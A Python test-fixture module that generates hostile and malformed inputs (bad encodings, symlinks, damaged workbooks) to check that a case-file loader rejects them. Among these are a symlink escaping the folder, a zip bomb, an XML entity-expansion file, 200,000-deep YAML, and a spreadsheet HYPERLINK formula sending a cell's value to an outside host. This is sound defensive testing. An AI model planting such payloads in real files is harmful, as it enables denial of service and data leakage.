"""Broken and hostile cases that cannot be kept as text: made anew in a temporary folder.

Each function takes an empty folder and returns the path to check. What it should say stands in `hostile/NAME.txt`.
"""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import openpyxl
import yaml

from dayafter.casefile.schema import TABLES
from tests.refusals.overlay import BASE, base_in

MB: Final = 2**20


def _replaced(folder: Path, file: str, old: str, new: str) -> Path:
    case = base_in(folder)
    text = (case / file).read_text(encoding="utf-8")
    assert old in text
    (case / file).write_text(text.replace(old, new), encoding="utf-8")
    return case


def a_table_in_place_of_a_case(folder: Path) -> Path:
    return base_in(folder) / "places.csv"


def a_link_to_nothing(folder: Path) -> Path:
    case = base_in(folder)
    (case / "shocks.csv").unlink()
    (case / "shocks.csv").symlink_to("elsewhere.csv")
    return case


def a_link_in_a_circle(folder: Path) -> Path:
    case = base_in(folder)
    (case / "shocks.csv").unlink()
    (case / "shocks.csv").symlink_to("shocks.csv")
    return case


def a_link_out_of_the_folder(folder: Path) -> Path:
    case = base_in(folder)
    (folder / "private.csv").write_text("id,name,kind\nsecret,Secret,vote\n", encoding="utf-8")
    (case / "shocks.csv").unlink()
    (case / "shocks.csv").symlink_to(folder / "private.csv")
    return case


def a_folder_in_place_of_a_table(folder: Path) -> Path:
    case = base_in(folder)
    (case / "shocks.csv").unlink()
    (case / "shocks.csv").mkdir()
    return case


def a_table_of_200_mb(folder: Path) -> Path:
    case = base_in(folder)
    with (case / "shocks.csv").open("r+b") as stream:
        stream.truncate(200 * MB)  # sparse: takes no room on the disk
    return case


def a_table_in_windows_1256(folder: Path) -> Path:
    case = base_in(folder)
    rows = "entity,language,kind,name,source\norim,ar,official,أوريم,gazette\norim,ckb,missing,,gazette\n"
    rows += "tarsa,ar,official,ترسة,gazette\ntarsa,ckb,missing,,gazette\n"
    (case / "names.csv").write_bytes(rows.encode("cp1256"))
    return case


def a_table_in_latin_1(folder: Path) -> Path:
    return _bytes(folder, "policies.csv", "id,name\nnothing,Café\nformal,Put it in writing\n".encode("latin-1"))


def a_table_in_utf_16(folder: Path) -> Path:
    return _bytes(folder, "policies.csv", "id,name\nnothing,Nothing\nformal,In writing\n".encode("utf-16"))


def a_nul_byte(folder: Path) -> Path:
    return _bytes(folder, "policies.csv", b"id,name\nnothing,Noth\0ing\nformal,In writing\n")


def a_byte_order_mark_and_windows_line_ends(folder: Path) -> Path:
    """Not broken: what Excel writes as CSV UTF-8 must be read, to the same columns; the fault is in a cell."""
    text = "id,name,kind,date,source\nvote,A vote,referendumm,2017,guess\n".replace("\n", "\r\n")
    return _bytes(folder, "shocks.csv", b"\xef\xbb\xbf" + text.encode("utf-8"))


def _bytes(folder: Path, file: str, data: bytes) -> Path:
    case = base_in(folder)
    (case / file).write_bytes(data)
    return case


def a_table_named_in_capitals(folder: Path) -> Path:
    case = base_in(folder)
    (case / "shocks.csv").rename(case / "Shocks.csv")
    return case


def two_files_for_one_table(folder: Path) -> Path:
    case = base_in(folder)
    (case / "Shocks.csv").write_text("id,name,kind\n", encoding="utf-8")
    return case


def yaml_nested_200000_deep(folder: Path) -> Path:
    return _replaced(folder, "case.yaml", "title: The upper valley", "title: " + "[" * 200_000)


def yaml_of_200000_values(folder: Path) -> Path:
    return _replaced(folder, "case.yaml", "languages: [en, ar, ckb]", f"languages: [{', '.join(['en'] * 200_000)}]")


def a_bell_in_yaml(folder: Path) -> Path:
    return _replaced(folder, "case.yaml", "title: The upper valley", "title: The upper\a valley")


def a_bell_in_a_cell(folder: Path) -> Path:
    return _replaced(folder, "shocks.csv", "A vote", "A\a vote")


def far_too_many_columns(folder: Path) -> Path:
    header = ",".join(["id", "name", "kind", "date", *(f"c{n}" for n in range(300))])
    return _bytes(folder, "shocks.csv", f"{header}\n".encode())


def a_cell_of_40000_characters(folder: Path) -> Path:
    return _replaced(folder, "shocks.csv", "A vote", "A vote " * 6000)


def a_cell_without_end(folder: Path) -> Path:
    return _replaced(folder, "shocks.csv", "A vote", '"' + "A vote\n" * 40_000)


def _workbook(folder: Path, change: Callable[[Any], None]) -> Path:
    """The base as a person would type it into a workbook, with one change."""
    path = folder / "case.xlsx"
    book = openpyxl.Workbook()
    head = book.active
    assert head is not None
    head.title = "case"
    head.append(["field", "value"])
    for name, value in yaml.safe_load((BASE / "case.yaml").read_text(encoding="utf-8")).items():
        head.append([name, "; ".join(value) if isinstance(value, list) else str(value)])
    for table in TABLES:
        sheet = book.create_sheet(table)
        with (BASE / f"{table}.csv").open(encoding="utf-8", newline="") as stream:
            for row in csv.reader(stream):
                sheet.append(row)
    change(book)
    book.save(path)
    return path


def a_formula(folder: Path) -> Path:
    def change(book: Any) -> None:
        book["places"]["H4"] = "=SUM(A1:A9)"
        book["deals"]["B2"] = '=HYPERLINK("https://example.org/?"&A1,"Bridge deal")'

    return _workbook(folder, change)


def an_error_value(folder: Path) -> Path:
    def change(book: Any) -> None:
        book["places"]["H4"] = "#REF!"
        book["places"]["H4"].data_type = "e"

    return _workbook(folder, change)


def merged_cells(folder: Path) -> Path:
    return _workbook(folder, lambda book: book["shocks"].merge_cells("B2:B4"))


def a_hidden_sheet(folder: Path) -> Path:
    def change(book: Any) -> None:
        book["deals"].sheet_state = "hidden"
        book["shocks"].sheet_state = "veryHidden"

    return _workbook(folder, change)


def a_sheet_of_another_name(folder: Path) -> Path:
    def change(book: Any) -> None:
        book["shocks"].title = "shock"
        book.create_sheet("Remarks")["A1"] = "a remark"

    return _workbook(folder, change)


def a_remark_beside_the_table(folder: Path) -> Path:
    def change(book: Any) -> None:
        book["policies"].cell(row=2, column=30, value="a remark")

    return _workbook(folder, change)


def faults_in_cells_of_a_workbook(folder: Path) -> Path:
    def change(book: Any) -> None:
        header = [cell.value for cell in book["population"][1]]
        book["population"].cell(row=2, column=header.index("before_share") + 1, value=1.4)
        header = [cell.value for cell in book["deals"][1]]
        book["deals"].cell(row=2, column=header.index("parties") + 1, value="guards; legionn")

    return _workbook(folder, change)


def a_field_of_the_head_twice(folder: Path) -> Path:
    return _workbook(folder, lambda book: book["case"].append(["title", "Another title"]))


def a_workbook_without_head(folder: Path) -> Path:
    return _workbook(folder, lambda book: book.remove(book["case"]))


def geometry_parts_out_of_order(folder: Path) -> Path:
    def change(book: Any) -> None:
        sheet = book.create_sheet("geometry")
        sheet.append(["file", "part", "text"])
        sheet.append(["orim.geojson", "1", '{"type": "FeatureCollection", '])
        sheet.append(["orim.geojson", "3", '"features": []}'])

    return _workbook(folder, change)


def a_text_renamed_to_xlsx(folder: Path) -> Path:
    path = folder / "case.xlsx"
    path.write_text("id,name\n", encoding="utf-8")
    return path


def a_workbook_with_a_password(folder: Path) -> Path:
    path = folder / "case.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
    return path


def a_damaged_workbook(folder: Path) -> Path:
    path = _workbook(folder, lambda book: None)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/workbook.xml"] = b"<workbook"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def a_zip_bomb(folder: Path) -> Path:
    path = folder / "case.xlsx"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part,
    ):
        for _ in range(128):
            part.write(b" " * MB)
    return path


def a_workbook_with_entities(folder: Path) -> Path:
    path = folder / "case.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><a>&b;</a>')
    return path


HOSTILE_CASES: Final[tuple[Callable[[Path], Path], ...]] = (
    a_table_in_place_of_a_case,
    a_link_to_nothing,
    a_link_in_a_circle,
    a_link_out_of_the_folder,
    a_folder_in_place_of_a_table,
    a_table_of_200_mb,
    a_table_in_windows_1256,
    a_table_in_latin_1,
    a_table_in_utf_16,
    a_nul_byte,
    a_byte_order_mark_and_windows_line_ends,
    a_table_named_in_capitals,
    two_files_for_one_table,
    yaml_nested_200000_deep,
    yaml_of_200000_values,
    a_bell_in_yaml,
    a_bell_in_a_cell,
    far_too_many_columns,
    a_cell_of_40000_characters,
    a_cell_without_end,
    a_formula,
    an_error_value,
    merged_cells,
    a_hidden_sheet,
    a_sheet_of_another_name,
    a_remark_beside_the_table,
    faults_in_cells_of_a_workbook,
    a_field_of_the_head_twice,
    a_workbook_without_head,
    geometry_parts_out_of_order,
    a_text_renamed_to_xlsx,
    a_workbook_with_a_password,
    a_damaged_workbook,
    a_zip_bomb,
    a_workbook_with_entities,
)
